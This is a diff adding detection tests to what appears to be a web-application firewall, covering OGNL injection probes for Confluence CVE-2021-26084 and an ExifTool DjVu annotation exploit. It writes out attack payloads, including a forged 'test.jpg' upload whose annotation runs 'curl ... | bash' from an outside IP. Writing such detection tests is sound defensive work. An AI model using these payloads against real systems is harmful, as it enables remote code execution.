@@ -203,3 +203,38 @@ def test_a_zip_bomb_member_is_cut_to_the_decoded_budget():
     ex = extract_all(_upload("big.xlsx", bomb), Limits(max_decoded=1 << 20))
     assert "decoded_size" in ex.overlimits
     assert sum(len(p.value) for p in ex.points) <= 2 << 20
+
+
+# --- batch r (KEV exploitation): OGNL concatenated into a template, ExifTool's DjVu annotations
+@pytest.mark.parametrize("value,attack", [
+    ("aaaaaaaa'+{233*233}+'", True),                 # Confluence CVE-2021-26084 probe, once \u0027 is decoded
+    ("x'+#{\"\".getClass()}+'", True),
+    ("'Hello ' + {name} + '!'", False),              # JSX-like text: braces around a name evaluate nothing
+    ('price: "$" + {amount} + " USD"', False),
+])
+def test_ognl_concatenation(engine, value, attack):
+    assert (verdict(engine.inspect_value(value)) == "attack") == attack
+
+
+def test_ognl_probe_in_unicode_escapes(engine):
+    hits = engine.inspect(req("/pages/createpage-entervariables.action?queryString=aaaaaaaa%5Cu0027%2B%7B233*233%7D%2B%5Cu0027"))
+    assert "java:ognl_concat" in {h.rule for h in hits if h.score >= 0.5}
+
+
+def _djvu(annotation: bytes) -> bytes:
+    chunk = b"ANTa" + len(annotation).to_bytes(4, "big") + annotation
+    info = b"INFO\x00\x00\x00\x0a\x00\x01\x00\x01\x18\x00\x2c\x01\x16\x01"
+    body = b"DJVU" + info + chunk
+    return b"AT&TFORM" + len(body).to_bytes(4, "big") + body
+
+
+@pytest.mark.parametrize("annotation,attack", [
+    (b'(metadata (Copyright "\\\n" . qx{curl -s http://203.0.113.7/g.sh|bash} . \\\n" b ") )', True),
+    (b'(metadata (Title "Floor plan, level 2") (Author "J. Doe"))', False),
+])
+def test_djvu_uploads_show_their_annotations(engine, annotation, attack):
+    bnd = "----b1"
+    body = (f'--{bnd}\r\nContent-Disposition: form-data; name="file"; filename="test.jpg"\r\nContent-Type: image/jpeg'
+            f"\r\n\r\n").encode() + _djvu(annotation) + f"\r\n--{bnd}--\r\n".encode()
+    hits = engine.inspect(req("/uploads/user", "POST", [("Content-Type", f"multipart/form-data; boundary={bnd}")], body))
+    assert (verdict(hits) == "attack") == attack, hits
